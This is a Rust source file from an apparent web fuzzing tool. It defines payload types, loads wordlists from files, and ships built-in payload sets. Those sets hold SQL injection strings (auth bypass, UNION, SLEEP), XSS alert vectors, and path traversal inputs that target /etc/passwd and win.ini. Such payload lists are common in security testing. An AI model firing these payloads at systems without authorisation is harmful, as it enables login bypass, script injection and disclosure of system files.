//! Payload values and payload sets

use std::fmt;
use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;

use crate::error::{GapfuzzError, ResultExt};

/// Where a payload value came from
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PayloadKind {
    Literal,
    FileSourced,
}

impl fmt::Display for PayloadKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PayloadKind::Literal => write!(f, "Literal"),
            PayloadKind::FileSourced => write!(f, "FileSourced"),
        }
    }
}

/// A value substituted into a gap
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Payload {
    kind: PayloadKind,
    data: String,
}

impl Payload {
    pub fn literal(data: impl Into<String>) -> Self {
        Self {
            kind: PayloadKind::Literal,
            data: data.into(),
        }
    }

    pub fn file_sourced(data: impl Into<String>) -> Self {
        Self {
            kind: PayloadKind::FileSourced,
            data: data.into(),
        }
    }

    pub fn kind(&self) -> PayloadKind {
        self.kind
    }

    pub fn data(&self) -> &str {
        &self.data
    }
}

impl fmt::Display for Payload {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "#{}: {}", self.kind, self.data)
    }
}

/// A named list of payloads
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadSet {
    /// Name of the payload set
    pub name: String,
    /// List of payloads
    pub payloads: Vec<Payload>,
}

impl PayloadSet {
    /// Create a literal payload set from a list
    pub fn new(name: &str, payloads: Vec<String>) -> Self {
        Self {
            name: name.to_string(),
            payloads: payloads.into_iter().map(Payload::literal).collect(),
        }
    }

    /// Load payloads from a wordlist file, skipping blank lines and `#` comments
    pub fn from_file(path: &Path) -> Result<Self, GapfuzzError> {
        let file = File::open(path)
            .with_context(format!("Failed to open wordlist: {}", path.display()))?;
        let reader = BufReader::new(file);

        let mut payloads = Vec::new();
        for line in reader.lines() {
            let line = line.with_context(format!("Failed to read wordlist: {}", path.display()))?;
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            payloads.push(Payload::file_sourced(line));
        }

        let name = path
            .file_name()
            .and_then(|s| s.to_str())
            .unwrap_or("wordlist")
            .to_string();

        tracing::debug!(name = %name, count = payloads.len(), "Loaded wordlist");
        Ok(Self { name, payloads })
    }

    /// Look up a built-in set by name
    pub fn builtin(name: &str) -> Option<Self> {
        match name {
            "sqli" => Some(Self::sqli_payloads()),
            "xss" => Some(Self::xss_payloads()),
            "path_traversal" => Some(Self::path_traversal_payloads()),
            _ => None,
        }
    }

    pub fn sqli_payloads() -> Self {
        Self::new("sqli", vec![
            "' OR '1'='1".to_string(),
            "' OR '1'='1' --".to_string(),
            "' OR 1=1--".to_string(),
            "admin'--".to_string(),
            "' UNION SELECT NULL--".to_string(),
            "' UNION SELECT NULL, NULL--".to_string(),
            "1' ORDER BY 1--".to_string(),
            "1 AND 1=2".to_string(),
            "1' AND '1'='2".to_string(),
            "' AND SLEEP(5)--".to_string(),
        ])
    }

    pub fn xss_payloads() -> Self {
        Self::new("xss", vec![
            "<script>alert(1)</script>".to_string(),
            "<img src=x onerror=alert(1)>".to_string(),
            "<svg onload=alert(1)>".to_string(),
            "\"><script>alert(1)</script>".to_string(),
            "'><script>alert(1)</script>".to_string(),
            "javascript:alert(1)".to_string(),
            "<details open ontoggle=alert(1)>".to_string(),
            "'-alert(1)-'".to_string(),
        ])
    }

    pub fn path_traversal_payloads() -> Self {
        Self::new("path_traversal", vec![
            "../../../etc/passwd".to_string(),
            "..\\..\\..\\windows\\win.ini".to_string(),
            "....//....//....//etc/passwd".to_string(),
            "..%2f..%2f..%2fetc/passwd".to_string(),
            "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd".to_string(),
            "/etc/passwd".to_string(),
        ])
    }

    pub fn numbers(start: i64, end: i64) -> Self {
        let payloads: Vec<String> = (start..=end).map(|n| n.to_string()).collect();
        Self::new("numbers", payloads)
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}
